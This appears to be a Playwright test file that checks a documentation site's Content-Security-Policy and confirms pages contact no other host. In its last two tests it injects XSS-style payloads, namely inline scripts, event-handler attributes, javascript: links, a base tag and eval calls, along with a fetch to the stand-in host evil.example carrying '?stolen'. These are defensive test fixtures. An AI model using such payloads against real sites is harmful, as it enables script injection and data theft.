import { readFileSync, readdirSync } from 'node:fs';
import { expect, test, type Page } from 'playwright/test';
import { routes } from './routes';
import { watch } from './watch';

const pages = readdirSync('out', { recursive: true, encoding: 'utf8' }).filter((file) => file.endsWith('.html'));
const toPolicyTag = (file: string) =>
  /<meta charSet="utf-8"\/>(<meta http-equiv="Content-Security-Policy"[^>]*>)/.exec(
    readFileSync(`out/${file}`, 'utf8'),
  )?.[1] ?? '';

test('every page carries a policy without anything unsafe, of less than 600 bytes however large the page', () => {
  for (const file of pages) {
    expect(toPolicyTag(file), file).toContain("default-src 'none'; script-src 'self' 'sha256-");
    expect(toPolicyTag(file), file).not.toMatch(/unsafe|https?:|\*|data:/);
    expect(toPolicyTag(file).length, file).toBeLessThan(600);
  }
});

for (const half of [0, 1]) {
  test(`no page is refused anything, and none asks another host (${half === 0 ? 'even' : 'odd'} pages)`, async ({
    page,
    baseURL,
  }) => {
    const seen = await watch(page);
    for (const route of [...routes, '/nowhere/'].filter((_, index) => index % 2 === half))
      await page.goto(route, { waitUntil: 'load' });
    await page.waitForTimeout(300);
    expect(seen.violations).toEqual([]);
    expect(seen.errors.filter((error) => !error.includes('404'))).toEqual([]);
    expect([...seen.hosts]).toEqual([new URL(baseURL ?? '').host]);
  });
}

test('no journey and no widget is refused anything, and none asks another host', async ({ page, baseURL }) => {
  const seen = await watch(page);
  await page.goto('/');
  let loads = 0;
  page.on('load', () => (loads += 1));
  await useEverything(page);
  for (const route of [
    '/definitions/intro/',
    '/how-tos/create-kubernetes-workload/',
    '/api/environments/',
    '/category/how-tos/',
    '/api/accounts/',
  ]) {
    await follow(page, route);
    await useEverything(page);
  }
  await page.goBack();
  await page.goBack();
  expect(seen.violations).toEqual([]);
  expect(seen.errors).toEqual([]);
  expect([...seen.hosts]).toEqual([new URL(baseURL ?? '').host]);
  expect(loads).toBe(0);
});

/** Goes to a page of the site as its links do. */
async function follow(page: Page, route: string): Promise<void> {
  const before = page.url();
  await page.evaluate(
    (href) => (window as unknown as { next: { router: { push: (url: string) => void } } }).next.router.push(href),
    route,
  );
  await page.waitForURL((url) => url.pathname === route);
  await page.waitForFunction((url) => document.title !== '' && location.href !== url, before);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
}

/** Presses what can be pressed on a page: buttons, tabs, folds, filters, keys. */
async function useEverything(page: Page): Promise<void> {
  for (const shortcut of ['/', 'Control+k']) {
    await page.keyboard.press(shortcut);
    await expect(page.getByRole('dialog')).toHaveCount(1);
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog')).toHaveCount(0);
  }
  await page.evaluate(() => {
    const skipped = /sign (in|up)|try again|retry|reload/i;
    document.querySelectorAll<HTMLElement>('summary, [role=tab]').forEach((element) => element.click());
    document.querySelectorAll<HTMLElement>('button').forEach((element) => {
      if (element.checkVisibility() && !skipped.test(element.textContent ?? '')) element.click();
    });
    document.querySelectorAll('select').forEach((element) => {
      element.selectedIndex = element.options.length - 1;
      element.dispatchEvent(new Event('change', { bubbles: true }));
    });
  });
  await closeDialogs(page);
  const box = page.locator('input[type=search]:visible, input[type=text]:visible').first();
  if (await box.count()) await box.fill('environment');
  await closeDialogs(page);
}

/** What was pressed may still be loading: closes until nothing is open. */
async function closeDialogs(page: Page): Promise<void> {
  await expect
    .poll(
      async () => {
        await page.keyboard.press('Escape');
        return page.getByRole('dialog').count();
      },
      { intervals: [200] },
    )
    .toBe(0);
}

test('a script that got into a page does not run', async ({ page }) => {
  const seen = await watch(page);
  await page.route('**/definitions/intro/', async (route) => {
    const response = await route.fetch();
    const evil = [
      '<script>window.evil=1</script>',
      '<script type="module">window.evil=2</script>',
      '<script src="https://evil.example/x.js"></script>',
      '<script src="data:text/javascript,window.evil=3"></script>',
      '<img src="/nothing.png" onerror="window.evil=4"><svg onload="window.evil=5"></svg>',
      '<a id="trap" href="javascript:window.evil=6">x</a><iframe srcdoc="<script>top.evil=7</script>"></iframe>',
      '<style>body{--evil:1}</style><p id="styled" style="--evil:1">x</p><base href="https://evil.example/">',
    ];
    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${evil.join('')}</body>`) });
  });
  await page.route('https://evil.example/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.evil=8' }),
  );
  await page.goto('/definitions/intro/', { waitUntil: 'load' });
  await page.locator('#trap').dispatchEvent('click');
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => (window as { evil?: number }).evil)).toBeUndefined();
  expect(await page.evaluate(() => getComputedStyle(document.body).getPropertyValue('--evil'))).toBe('');
  expect(await page.evaluate(() => document.baseURI)).toContain('/definitions/intro/');
  expect(new Set(seen.violations.map((text) => text.split(' ')[0]))).toEqual(
    new Set(['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'base-uri']),
  );
});

test('a script of the site makes neither code nor markup of a string, and asks nobody', async ({ page }) => {
  const evil = `;(() => {
    const tries = {
      eval: () => eval('1'),
      function: () => new Function('return 1')(),
      timer: () => setTimeout('1'),
      markup: () => (document.createElement('p').innerHTML = '<b>x</b>'),
      script: () => (document.createElement('script').text = 'window.evil=1'),
      address: () => (document.createElement('script').src = '/evil.js'),
      worker: () => new Worker('data:text/javascript,1'),
    };
    window.outcome = Object.fromEntries(Object.entries(tries).map(([name, act]) => { try { act(); return [name, 'done']; } catch { return [name, 'refused']; } }));
    fetch('https://evil.example/?stolen').catch(() => (window.outcome.fetch = 'refused'));
  })();`;
  await page.route('**/_next/static/chunks/turbopack-*.js', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${await response.text()}${evil}` });
  });
  await page.goto('/definitions/intro/', { waitUntil: 'load' });
  await page.waitForFunction(() => 'fetch' in ((window as { outcome?: object }).outcome ?? {}));
  expect(new Set(Object.values(await page.evaluate(() => (window as unknown as { outcome: object }).outcome)))).toEqual(
    new Set(['refused']),
  );
});
